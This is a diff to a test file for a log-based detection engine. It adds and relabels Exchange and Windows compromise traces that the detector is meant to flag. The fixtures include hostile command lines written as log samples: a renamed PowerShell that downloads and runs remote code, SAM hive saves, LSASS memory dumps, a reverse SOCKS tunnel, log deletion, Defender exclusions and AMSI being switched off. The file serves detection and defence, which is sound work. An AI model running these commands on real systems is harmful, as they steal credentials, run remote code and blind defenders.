@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { builtIn, builtInRules } from '../../src/detections/compile/built-in.ts'
-import type { Shows } from '../../src/detections/chains/chain.ts'
+import { SHOWS, type Shows } from '../../src/detections/chains/chain.ts'
 import { Hunter } from '../../src/detections/hunt/hunt.ts'
 import { LEVELS, type Level } from '../../src/event/hit.ts'
 import { fieldOf, rebuiltLine } from '../../src/formats/registry.ts'
@@ -180,7 +180,7 @@ const TRACES: readonly Trace[] = [
       'sc-status': '241',
     }),
     'high',
-    'reach',
+    'question',
   ],
   [
     'the back end by the name of its site',
@@ -215,6 +215,21 @@ const TRACES: readonly Trace[] = [
       URL: '/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory',
       REFERRER: 'https://attacker.example/http',
     },
+    'high',
+    'reach',
+  ],
+  [
+    'machine account of another server that is used by a tool',
+    'iis-w3c',
+    web({
+      's-port': '444',
+      's-ip': '192.0.2.10',
+      'c-ip': '192.0.2.11',
+      'cs-username': 'CORP\\EX02$',
+      'cs(User-Agent)': 'ExchangeServicesClient/0.0.0.0',
+      'cs-uri-stem': '/ecp/proxyLogon.ecp',
+      'sc-status': '241',
+    }),
     'high',
     'reach',
   ],
@@ -362,14 +377,14 @@ const TRACES: readonly Trace[] = [
     'iis-w3c',
     web({ 'cs-uri-stem': '/aspnet_client/system_web/error.soap', 'cs-method': 'GET' }),
     'high',
-    'success',
+    'question',
   ],
   [
     'shell seen by the proxy, with something behind its name',
     'exchange-http-proxy',
     { UrlStem: '/owa/auth/errorEE.aspx/x', HttpStatus: '200', Method: 'GET' },
     'high',
-    'success',
+    'question',
   ],
   [
     'command in a parameter of any name',
@@ -404,7 +419,7 @@ const TRACES: readonly Trace[] = [
       ParentCommandLine: POOL,
     }),
     'high',
-    'reach',
+    'question',
   ],
   [
     'other tools of the system started by the web server',
@@ -419,18 +434,106 @@ const TRACES: readonly Trace[] = [
     'success',
   ],
   [
+    'hive saved into a web folder',
+    'windows-evtx',
+    process({ CommandLine: 'reg.exe save HKLM\\SAM C:\\inetpub\\wwwroot\\aspnet_client\\s.txt' }),
+    'critical',
+    'success',
+  ],
+  [
+    'memory dumped with a copy of the library',
+    'windows-evtx',
+    process({ CommandLine: 'rundll32 C:\\ProgramData\\c.dll, #24 640 C:\\ProgramData\\a.txt full' }),
+    'critical',
+    'success',
+  ],
+  [
+    'sign-in process opened by a program that is named like one of Windows, with other rights',
+    'windows-evtx',
+    {
+      Channel: 'Microsoft-Windows-Sysmon/Operational',
+      EventID: '10',
+      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
+      GrantedAccess: '0x1450',
+      SourceImage: 'C:\\ProgramData\\svchost.exe',
+      CallTrace: 'ntdll.dll',
+    },
+    'high',
+    'question',
+  ],
+  [
+    'page of the product written by a copy of an installer',
+    'windows-evtx',
+    written(`${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx`, 'C:\\Windows\\Temp\\msiexec.exe'),
+    'critical',
+    'question',
+  ],
+  [
+    'archive in another folder, with the logs named too',
+    'windows-evtx',
+    process({ CommandLine: 'rar a C:\\PerfLogs\\a.rar D:\\mail C:\\inetpub\\logs' }),
+    'high',
+    'question',
+  ],
+  [
+    'folder of logs deleted, with an age named behind',
+    'windows-evtx',
+    process({
+      CommandLine:
+        'powershell "rm D:\\Exchange\\V15\\Logging -Recurse; $_.LastWriteTime -lt 1; (Get-Date).AddDays(-30)"',
+    }),
+    'high',
+    'hint',
+  ],
+  [
+    'exclusion of the folder of web shells',
+    'windows-evtx',
+    {
+      Channel: 'Microsoft-Windows-Windows Defender/Operational',
+      EventID: '5007',
+      'New Value': `HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth = 0x0`,
+    },
+    'high',
+    'hint',
+  ],
+  [
+    'module named like one of Windows in another folder of Windows',
+    'iis-config',
+    { Element: 'globalModule', Name: 'HttpCacheModule', Image: '%windir%\\System32\\cachhttp.dll' },
+    'high',
+    'question',
+  ],
+  [
+    'renamed PowerShell that fetches',
+    'windows-evtx',
+    process({
+      Image: 'C:\\ProgramData\\u.exe',
+      OriginalFileName: 'PowerShell.EXE',
+      CommandLine: "u.exe IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
+    }),
+    'high',
+    'hint',
+  ],
+  [
+    'renamed tunnel',
+    'windows-evtx',
+    process({ Image: 'C:\\ProgramData\\u.exe', CommandLine: 'u.exe client 198.51.100.5:443 R:socks' }),
+    'high',
+    'question',
+  ],
+  [
     'hive saved with quotes',
     'windows-evtx',
     process({ Image: 'C:\\Windows\\System32\\reg.exe', CommandLine: 'reg  save "HKLM\\SAM" C:\\a' }),
     'critical',
-    'success',
+    'question',
   ],
   [
     'hive saved by another program that is the same',
     'windows-evtx',
     process({ Image: 'C:\\a.exe', OriginalFileName: 'reg.exe', CommandLine: 'a save hklm\\security b' }),
     'critical',
-    'success',
+    'question',
   ],
   [
     'memory dumped by number',
@@ -450,7 +553,7 @@ const TRACES: readonly Trace[] = [
       CommandLine: 'rdrleakdiag.exe /p 624 /o C:\\a /fullmemdmp /wait 1',
     }),
     'critical',
-    'success',
+    'question',
   ],
   [
     'memory dumped with the other dash',
@@ -460,21 +563,21 @@ const TRACES: readonly Trace[] = [
       CommandLine: 'p.exe /accepteula /ma lsass.exe a',
     }),
     'critical',
-    'success',
+    'question',
   ],
   [
     'script of another kind written to the web',
     'windows-evtx',
     written(`${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth\\x.svc`),
     'critical',
-    'success',
+    'question',
   ],
   [
     'script written to the web on another drive',
     'windows-evtx',
     written('E:\\inetpub\\wwwroot\\aspnet_client\\x.soap', W3WP),
     'critical',
-    'success',
+    'question',
   ],
   [
     'script of another kind over the loopback share',
@@ -591,7 +694,7 @@ const TRACES: readonly Trace[] = [
     'windows-evtx',
     written(`${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx`, 'C:\\Windows\\Temp\\Setup.exe'),
     'critical',
-    'success',
+    'question',
   ],
   [
     'sign-in process opened by a program in a folder that is named like that of programs',
@@ -605,7 +708,7 @@ const TRACES: readonly Trace[] = [
       CallTrace: 'ntdll.dll',
     },
     'high',
-    'reach',
+    'question',
   ],
   [
     'mail forwarded on Exchange 2010',
@@ -616,6 +719,47 @@ const TRACES: readonly Trace[] = [
       Data: ['New-InboxRule', '{Name=a, ForwardTo=x@mail.example, Mailbox=anna}'],
     },
     'medium',
+  ],
+  [
+    'shell at the back end in a folder of its own, doubled slash',
+    'iis-w3c',
+    web({ 's-port': '444', 's-ip': '192.0.2.10', 'cs-uri-stem': '/EWS//bin/a.ashx/x' }),
+    'critical',
+    'success',
+  ],
+  [
+    'mail read by a tool that says more before its name',
+    'exchange-ews',
+    {
+      AuthenticatedUser: 'svc@corp.example',
+      ActAsUser: 'anna@corp.example',
+      SoapAction: 'SyncFolderItems',
+      UserAgent: 'exchangelib/5.4.0 (python-requests/2.32.3)',
+      HttpStatus: '200',
+    },
+    'high',
+    'question',
+  ],
+  [
+    'audit narrowed instead of switched off',
+    'exchange-admin-audit',
+    { Operation: 'Set-AdminAuditLogConfig', Parameters: '-AdminAuditLogExcludedCmdlets "New-InboxRule"' },
+    'high',
+    'hint',
+  ],
+  [
+    'request scanning switched off in an override of another name',
+    'windows-evtx',
+    {
+      Channel: 'MSExchange Management',
+      EventID: '1',
+      Data: [
+        'Set-SettingOverride',
+        '-Identity "tuning" -Section "amsirequestbodyscanning" -Parameters ("EnabledOwa = $false")',
+      ],
+    },
+    'medium',
+    'hint',
   ],
   [
     'shell that answers with an error',
@@ -683,6 +827,17 @@ const TRIED: readonly (readonly [what: string, format: string, row: Row])[] = [
   ],
   ['post to a static file, refused', 'iis-w3c', web({ 'cs-uri-stem': '/ecp/y.js', 'sc-status': '500' })],
   [
+    'Autodiscover asked by a tool at the back end, which failed',
+    'iis-w3c',
+    web({
+      's-port': '444',
+      'cs-username': 'CORP\\EX01$',
+      'cs(User-Agent)': 'python-requests/2.32.3',
+      'cs-uri-stem': '/autodiscover/autodiscover.xml',
+      'sc-status': '500',
+    }),
+  ],
+  [
     'export as a script that failed',
     'windows-evtx',
     {
@@ -712,6 +867,13 @@ function found(format: string, row: Row): { readonly name: string; readonly leve
 const shownBy = (hits: ReturnType<typeof found>): Shows[] =>
   hits.flatMap(({ name }) => [...(said.get(name) ?? [])])
 
+/** Whether something says as much for a verdict; what was only tried must be told as that. */
+const atLeast =
+  (shows: Shows) =>
+  (said: Shows): boolean =>
+    said === shows ||
+    (['question', 'reach'].includes(shows) && said !== 'follow' && SHOWS.indexOf(said) < SHOWS.indexOf(shows))
+
 describe('a small change hides nothing', () => {
   for (const [what, format, row, least, shows] of TRACES)
     it(what, () => {
@@ -719,7 +881,7 @@ describe('a small change hides nothing', () => {
       const told = hits.map(({ name, level }) => `${name} [${level}]`).join(', ')
       const best = Math.max(-1, ...hits.map(({ level }) => rank(level)))
       expect(best, `only ${told || 'nothing'}`).toBeGreaterThanOrEqual(rank(least))
-      if (shows) expect(shownBy(hits), told).toContain(shows)
+      if (shows) expect(shownBy(hits).some(atLeast(shows)), `${told} shows less`).toBe(true)
     })
 })
 
@@ -730,7 +892,7 @@ describe('an attempt is called no more, and is told', () => {
       const told = hits.map(({ name }) => name).join(', ')
       expect(shownBy(hits).length, told).toBeGreaterThan(0)
       expect(
-        shownBy(hits).filter((shows) => ['success', 'reach', 'follow'].includes(shows)),
+        shownBy(hits).filter((shows) => ['success', 'question', 'reach', 'follow'].includes(shows)),
         told,
       ).toEqual([])
     })
